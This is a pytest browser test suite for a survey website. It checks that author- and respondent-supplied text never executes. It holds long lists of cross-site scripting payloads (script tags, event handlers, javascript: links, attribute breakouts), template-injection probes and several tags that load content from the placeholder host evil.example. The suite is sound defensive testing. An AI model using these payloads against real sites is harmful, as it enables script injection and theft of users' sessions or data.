"""What authors and respondents write is text wherever it is shown: no payload runs, and none even tries to."""

import json

import pytest

from tests.browser.walk import Walk

RUNS = "window.canary=1"
TAGS = [
    f"<script>{RUNS}</script>",
    f"<ScRiPt src=data:text/javascript,{RUNS}></ScRiPt>",
    f"<script type=module>{RUNS}</script>",
    f"<scr<script>ipt>{RUNS}</scr</script>ipt>",
    f"</title><script>{RUNS}</script>",
    f"</textarea><script>{RUNS}</script>",
    f"--><script>{RUNS}</script>",
    f"]]><script>{RUNS}</script>",
    "<script src=//evil.example/x.js></script>",
    f"<iframe src='javascript:{RUNS}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x.svg>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><button>Send</button></form>",
    "<input autofocus onfocus=window.canary=1>",
    "<template><img src=x></template>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><a xlink:href='javascript:{RUNS}'><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<math><mtext><img src=x onerror={RUNS}></mtext></math>",
    f"<math href='javascript:{RUNS}'>x</math>",
    f"<noscript><p title='</noscript><img src=x onerror={RUNS}>'>",
]
HANDLERS = [
    f"<{tag} {event}={RUNS}{rest}>"
    for tag, event, rest in (
        ("img src=x", "onerror", ""),
        ("img src=x", "oNeRrOr", " /"),
        ("img/src=x", "onerror", "//"),
        ("svg", "onload", ""),
        ("body", "onload", ""),
        ("details open", "ontoggle", ""),
        ("video", "onerror", "><source src=x"),
        ("audio src=x", "onerror", ""),
        ("marquee", "onstart", ""),
        ("p tabindex=0 autofocus", "onfocus", ""),
        ("div style=animation-name:x", "onanimationstart", ""),
        ("object data=x", "onerror", ""),
        ("select autofocus", "onfocus", ""),
        ("b", "onmouseover", ""),
        ("a href=x", "onclick", ""),
    )
]
ADDRESSES = [
    f"[x](javascript:{RUNS})",
    f"[x](JaVaScRiPt:{RUNS})",
    f"[x]( javascript:{RUNS})",
    f"[x](java\tscript:{RUNS})",
    f"[x](&#106;avascript:{RUNS})",
    f"[x](data:text/html,<script>{RUNS}</script>)",
    f"[x](vbscript:{RUNS})",
    f"![x](javascript:{RUNS})",
    "![x](//evil.example/x.png)",
    f"<javascript:{RUNS}>",
    f"<a href=javascript:{RUNS}>x</a>",
    f"<a href='  javascript:{RUNS}'>x</a>",
    f'[x](/ "onclick={RUNS}")',
    f'[x](" onmouseover={RUNS} ")',
]
ATTRIBUTES = [
    f'" onfocus={RUNS} autofocus="',
    f"' onfocus={RUNS} autofocus='",
    f'"><img src=x onerror={RUNS}>',
    f"'><svg onload={RUNS}>",
    "`${alert(1)}`",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
BY_AUTHORS = TAGS + HANDLERS + ADDRESSES + ATTRIBUTES
TEMPLATES = ["{{ 7*7191 }}", "{% raw %}", "${7*7191}", "#{7*7191}", "<%= 7*7191 %>", "{{config}}", "{{''.__class__}}"]
BY_RESPONDENTS = BY_AUTHORS + TEMPLATES


def authored() -> str:
    """A questionnaire with a payload in every text that an author can set."""
    every = "\n\n".join(text for text in BY_AUTHORS if "{" not in text)
    texts = [text for text in BY_AUTHORS if "{" not in text]
    statements = [{"name": f"s{n}", "kind": "statement", "text": text, "help": text} for n, text in enumerate(texts)]
    codes = [{"code": f"c{n}", "label": text, "with_text": text} for n, text in enumerate(texts)]
    rows = [{"code": f"r{n}", "label": text} for n, text in enumerate(texts[:8])]
    steps = [{"code": str(n), "label": text} for n, text in enumerate(texts[3:5])]
    grid = {"name": "grid", "kind": "grid", "text": texts[0], "rows": rows, "codes": steps}
    choice = {"name": "choice", "kind": "choices", "text": texts[26], "codes": "all", "help": every}
    scale = {"name": "line", "kind": "slider", "text": texts[40], "low_label": texts[27], "high_label": texts[55]}
    told = ("welcome", "privacy", "formats", "about", "thanks", "summary", "audience")
    return json.dumps(
        {
            "survey": "authored",
            "title": texts[0],
            "points": texts[:9],
            **dict.fromkeys(told, every),
            "code_lists": {"all": {"codes": codes}},
            "sections": [
                {"name": "one", "title": texts[26], "intro": every, "definition": every, "questions": statements},
                {"name": "two", "title": texts[1], "questions": [choice, scale]},
                {
                    "name": "three",
                    "title": texts[2],
                    "questions": [grid | {"codes": [{"code": "1", "label": texts[3]}]}],
                },
            ],
        }
    )


def answered() -> str:
    """A questionnaire whose second page repeats every answer of its first."""
    names = [f"a{n}" for n in range(len(BY_RESPONDENTS))]
    texts = [{"name": name, "kind": "text", "text": "Words?"} for name in names]
    repeats = " ".join(f"{{{name}}}" for name in names)
    last = [{"name": "last", "kind": "text", "text": repeats}]
    sections = [
        {"name": "one", "title": "One", "questions": texts},
        {"name": "two", "title": "Two", "intro": repeats, "questions": last},
    ]
    return json.dumps({"survey": "answered", "title": "Answered", "sections": sections})


@pytest.fixture
def watched(page):
    """A page, and everything suspicious that happens on it."""
    seen: list[str] = []
    page.set_default_timeout(8_000)
    page.on("dialog", lambda dialog: (seen.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: seen.append(message.text) if "status" not in message.text else None)
    page.on("request", lambda request: seen.append(request.url) if "127.0.0.1" not in request.url else None)
    return page, seen


def nothing_ran(page, seen: list[str]) -> None:
    assert [what for what in seen if not what.startswith("data:image")] == [], page.url
    assert page.evaluate("window.canary === undefined"), page.url
    assert "50337" not in page.content(), page.url
    assert page.locator("main script, main iframe, main object, main base, main [onerror], main [onfocus]").count() == 0
    links = page.evaluate("[...document.links].map(link => link.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:"}, page.url


def test_nothing_an_author_writes_runs(site, watched):
    site.put(authored())
    page, seen = watched
    for address in ("/", "/privacy", "/consultations/authored/paper", "/consultations/authored"):
        page.goto(site.address + address)
        nothing_ran(page, seen)
    walk = Walk(page)
    for button in ("Start", "Save and continue", "Save and continue", "Save and continue", "Send my answers"):
        heading = walk.go(button)
        nothing_ran(page, seen)
    assert heading == "Thank you. Your answers are with us"


def test_nothing_a_respondent_writes_runs(site, watched):
    site.put(answered())
    page, seen = watched
    page.goto(f"{site.address}/consultations/answered")
    walk = Walk(page)
    walk.go("Start")
    for number, text in enumerate(BY_RESPONDENTS):
        page.fill(f"#a{number}", text)
    walk.go()
    nothing_ran(page, seen)
    page.fill("#last", f"<script>{RUNS}</script>")
    assert walk.go() == "Check your answers"
    nothing_ran(page, seen)
    shown = page.inner_text("main")
    assert all(" ".join(text.split()) in " ".join(shown.split()) for text in BY_RESPONDENTS)
    walk.go("Send my answers")
    nothing_ran(page, seen)
    code = page.inner_text(".receipt__code")
    page.goto(f"{site.address}/receipts")
    page.fill("#code", code)
    walk.go("Show my answers")
    nothing_ran(page, seen)


def test_nothing_in_an_address_or_a_code_runs(site, watched):
    page, seen = watched
    for text in (TAGS[0], HANDLERS[0], ATTRIBUTES[2], "{{7*7191}}", "javascript:alert(1)"):
        for address in ("/continue/", "/go/", "/consultations/", "/nowhere/", "/consultations/every?language="):
            page.goto(site.address + address + text.replace("/", "%2F").replace("?", "%3F").replace("#", "%23"))
            nothing_ran(page, seen)
    page.goto(f"{site.address}/continue")
    page.fill("#code", ATTRIBUTES[2])
    Walk(page).go("Carry on")
    nothing_ran(page, seen)


def test_what_is_typed_again_does_not_run(site, watched, context):
    site.put(answered().replace('"answered"', '"lost"'))
    page, seen = watched
    page.goto(f"{site.address}/consultations/lost")
    walk = Walk(page)
    walk.go("Start")
    for number, text in enumerate(BY_RESPONDENTS):
        page.fill(f"#a{number}", text)
    context.clear_cookies()
    assert walk.go() == "We could not find your place"
    nothing_ran(page, seen)
